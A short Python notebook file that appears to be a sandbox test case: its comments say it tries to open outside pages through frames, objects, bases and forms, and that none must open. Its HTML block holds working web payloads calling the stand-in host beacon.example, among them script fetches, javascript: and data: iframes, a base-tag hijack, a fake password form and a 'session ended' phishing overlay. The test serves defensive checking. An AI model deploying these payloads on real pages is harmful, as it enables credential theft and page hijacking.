# tries: to open other pages in its reader's page, or another page instead: frames, objects, bases, forms, covers
# must: open none
# score: 10
from IPython.display import HTML, IFrame, display

CALL = "fetch('http://beacon.example/frame');top.owned=self.owned=1;alert(1)"
display(IFrame("http://beacon.example/iframe", 100, 100))
display(
    HTML(f"""
<iframe srcdoc="<script>{CALL}</script>"></iframe><iframe src="javascript:{CALL}"></iframe>
<iframe src="data:text/html,<script>{CALL}</script>"></iframe><frameset><frame src="http://beacon.example/x"></frameset>
<object data="http://beacon.example/object"></object><embed src="http://beacon.example/embed"><portal src="//beacon.example/">
<base href="http://beacon.example/base/" target="_top"><img src="relative.png"><applet code="x" archive="//beacon.example/a">
<form action="http://beacon.example/form" target="_top"><input name="password" type="password"><button autofocus>Log in</button></form>
<div style="position:fixed;inset:0;background:white">Your session has ended. <a href="//beacon.example/login">Log in</a></div>
""")
)


def add(a, b):
    return a + b
